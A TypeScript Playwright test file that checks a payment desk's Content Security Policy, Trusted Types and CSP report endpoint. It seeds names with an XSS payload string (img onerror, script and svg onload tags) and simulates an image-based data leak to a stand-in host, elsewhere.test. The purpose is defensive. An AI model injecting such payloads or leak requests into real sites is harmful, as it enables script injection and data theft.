// The policy of the desk's pages: every screen obeys it, whatever names others have given things;
// what would break it does not happen, and is reported without a word of what was on the page.
import assert from 'node:assert/strict'
import { before, test } from 'node:test'
import type { Page } from 'playwright-core'
import { limits } from '../../packages/api/src/index.ts'
import { checkoutBody, clientOf, newMid, ownServer, reaches } from '../running-server.ts'
import { until } from '../shop.ts'
import { desktop, narrow, visitors } from './browser.ts'
import { furnish, screensOn, sides, watchers } from './desk-screens.ts'
import { openedAs, settled } from './desk-visit.ts'

const { visit } = visitors()
const server = ownServer()
before(async () => {
  await nameThings()
  const { page } = await openedAs(server, visit, 'auditor')
  await furnish(server, page)
})

/** As long as a name may be. */
const words = (name: string) => `${name}${MARKUP}`.padEnd(limits.textMax, 'W')
const MARKUP =
  ' "\'><img src=x onerror=hit=1><script>hit=1</script><svg onload=hit=1>\u202e{{hit=1}}'

/** A store, a buyer, an article and a campaign whose names would be markup. */
async function nameThings(): Promise<void> {
  const client = clientOf(server)
  const done = async (method: string, path: string, body: object) => {
    const { status, body: answer, text } = await client(method, path, body)
    assert.ok(status < 300, `${path}: ${text}`)
    return answer
  }
  await done('PATCH', '/me', { name: words('Store') })
  const customer = {
    ...{ email: 'mallory@example.com', birthday: '1990-01-01', phone: '600000000' },
    ...{ first_name: words('Mallory'), last_name: words('Name') },
    document_id: { type: 'nif', number: '12345678Z', country: 'ES' },
  }
  const body = checkoutBody(newMid(), 30_000, { customer })
  for (const article of body.order.articles) article.name = words('Article')
  const { id } = await done('POST', '/checkout', body)
  await done('POST', `/sandbox/checkouts/${id}/complete`, {})
  await reaches(client, id, '')
  await done('POST', `/orders/${id}/captures`, { amount: 30_000 })
}

/** The log's lines of reports. */
const reports = () =>
  server
    .log()
    .split('\n')
    .filter((line) => line.includes('violated its policy'))
    .map((line) => JSON.parse(line))

/** Nothing of the names has run, and none of them has become a part of the page. */
async function assertText(page: Page, where: string): Promise<void> {
  const actual = await page.evaluate(() => ({
    hit: Reflect.get(globalThis, 'hit'),
    made: document.querySelectorAll('[onerror], [onload], [src="x"]').length,
  }))
  assert.deepEqual(actual, { hit: undefined, made: 0 }, where)
}

for (const side of sides) {
  test(`no screen of a ${side} breaks it, whatever things are called`, async () => {
    const { page, faults } = await openedAs(server, visit, watchers[side])
    const base = server.demo.base_url
    let shown = 0
    for (const { path } of await screensOn(page, base, side)) {
      await page.goto(`${base}/desk${path}?mode=sandbox`)
      await settled(page)
      await assertText(page, path)
      for (const size of [narrow, desktop]) {
        await page.setViewportSize(size)
        const wider = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
        assert.ok(wider <= 0, `${path} at ${size.width}: ${wider} px`)
      }
      shown += await page.getByText(/(Store|Mallory|Article) "'></).count()
    }
    assert.ok(shown > 4, `hostile names were seen ${shown} times`)
    assert.deepEqual(faults, [])
    assert.deepEqual(reports(), [])
  })
}

test('violations are blocked, and reported within bounds', async () => {
  const { page, faults } = await openedAs(server, visit, 'support')
  const base = server.demo.base_url
  await page.goto(`${base}/desk/people/0199f0c0ffee?mode=sandbox&q=Ada-12345678Z`)
  await settled(page)
  const thrown = await page.evaluate(async () => {
    const image = new Image()
    const failed = new Promise<void>((resolve) => image.addEventListener('error', () => resolve()))
    image.src = 'http://elsewhere.test/leak?who=12345678Z'
    await failed
    try {
      document.body.innerHTML = '<b>12345678Z</b>'
      return ''
    } catch (error) {
      return String(error)
    }
  })
  assert.match(thrown, /TrustedHTML/)
  await until(() => reports().length === 2, 'two reports')
  const said = reports().map(({ directive, blocked, screen }) => [directive, blocked, screen])
  assert.deepEqual(said, [
    ['img-src', 'http://elsewhere.test', '/desk/people/:id'],
    ['require-trusted-types-for', 'trusted-types-sink', '/desk/people/:id'],
  ])
  assert.doesNotMatch(JSON.stringify(reports()), /12345678Z|Ada|0199f0c0ffee|mode=/)
  assert.ok(faults.length > 0, 'the browser says so, too')

  const send = async (body: string, type = 'application/csp-report') => {
    const init = { method: 'POST', headers: { 'content-type': type }, body }
    return (await fetch(`${base}/desk/csp`, init)).status
  }
  const report = JSON.stringify({ 'csp-report': { 'effective-directive': 'img-src' } })
  assert.equal(await send(report), 204)
  assert.equal(await send(report, 'application/json'), 204)
  assert.equal(await send(report, 'text/plain'), 415)
  assert.equal(await send('{"csp-report":'), 400)
  assert.equal(await send('{}'), 400)
  assert.equal(await send(`{"csp-report":{},"x":"${'x'.repeat(16_384)}"}`), 413)
  const many = await Promise.all(Array.from({ length: 60 }, () => send(report)))
  assert.ok(many.includes(429), many.join())
  const limited = many.filter((status) => status === 204).length
  // One in five seconds comes in beside the twenty at once.
  assert.ok(limited < 30, `${limited} of 60`)
  await until(() => reports().length === 4 + limited, 'as many lines')
})
